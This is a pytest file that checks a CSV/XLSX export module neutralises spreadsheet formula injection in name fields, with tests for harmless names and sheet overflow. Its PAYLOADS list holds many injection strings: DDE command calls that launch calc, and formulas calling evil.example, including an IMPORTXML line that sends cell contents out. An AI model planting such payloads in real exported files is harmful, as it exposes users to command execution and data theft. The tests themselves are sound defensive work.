"""Formula payloads in names: harmless in CSV and XLSX, and what was meant can still be read."""

from __future__ import annotations

import csv
import itertools
from pathlib import Path

import pytest
from openpyxl import load_workbook

from clarion.handover.sheets import harmless, write_csv, write_xlsx

PAYLOADS = (
    '=HYPERLINK("https://evil.example","click")',
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=IMPORTXML(CONCAT("//evil.example?",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "  +1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "\u202f@A1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    " ＝1+1",
    "\u2066=1+1",
    "\t",
    "\u200e-1",
    '="a"&"b"',
    "a;=cmd|'/Ccalc'!A0;b Z.",
    "a;\"=cmd|'/Ccalc'!A0\";b",
    'a";"=1+1',
    'a;";=1+1',
    'a";";"=1+1',
    'a";""""=1+1',
    '"=1+1"',
    ";=1+1",
    ";;;@A1",
    "a; +1+1",
    'a; " =1+1',
    "a;\u200b\u00a0=1+1",
    "a;＝1+1",
    "a,-1+1",
    'a",=1+1,"b',
    "a\t=1+1",
    "a|@SUM(1)",
    "a|'|=1+1",
    "a\n=1+1",
    "a\r\n =1+1",
    'a"\r\n"=1+1',
)
HARMLESS = (
    *("Ana L.", "O'Brien K.", "'Ana", "李.", "a=b", "Jean-Luc R.", "ليلى م.", "Null", "True", "1e5", ""),
    *("Ana (+34 600 123 456)", "555-0100", "King, Jr.", "Ana; Eva", "Ana | Eva-Luz", "Ana, a@b.example", 'Ana "-" L.'),
)
TRIGGERS = tuple("=+-@＝＋－＠")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_text_in_both(payload: str, tmp_path: Path) -> None:
    row = (payload,) * 5
    write_csv(tmp_path / "a.csv", ("a", "b", "c", "d", "e"), [row])
    write_xlsx(tmp_path / "a.xlsx", "Names", ("a", "b", "c", "d", "e"), [row])
    raw = (tmp_path / "a.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        _, read = csv.reader(file)
    assert [cell.replace("'", "") for cell in read] == [payload.replace("'", "")] * 5, "what was meant can be read"
    assert_no_cell_is_a_formula(tmp_path / "a.csv")
    for cell in next(load_workbook(tmp_path / "a.xlsx").active.iter_rows(min_row=2)):
        assert cell.data_type in ("s", "inlineStr")
        assert str(cell.value).strip() == payload.replace("\r\n", "\n").replace("\r", "\n").strip() or "_x" in str(
            cell.value
        )


def assert_no_cell_is_a_formula(path: Path) -> None:
    """However it is taken apart: spreadsheets part cells by what their country has, some know no quotes, some trim."""
    for delimiter, quoting in itertools.product(",;\t|", (csv.QUOTE_ALL, csv.QUOTE_NONE)):
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file, delimiter=delimiter, quoting=quoting) for cell in row]
        for cell in cells:
            assert not cell.lstrip('" \t\r\n\u00a0\u202f\u3000\u200b\u200e\u2066\ufeff').startswith(TRIGGERS)


@pytest.mark.parametrize("text", HARMLESS)
def test_names_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_a_sheet_that_is_full_goes_on_in_another(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("clarion.handover.sheets.ROWS", 2)
    write_xlsx(tmp_path / "a.xlsx", "Names", tuple("abcde"), [(str(n),) * 5 for n in range(5)])
    book = load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["Names", "Names 2", "Names 3"]
    assert [[row[0].value for row in sheet.iter_rows(min_row=2)] for sheet in book] == [["0", "1"], ["2", "3"], ["4"]]
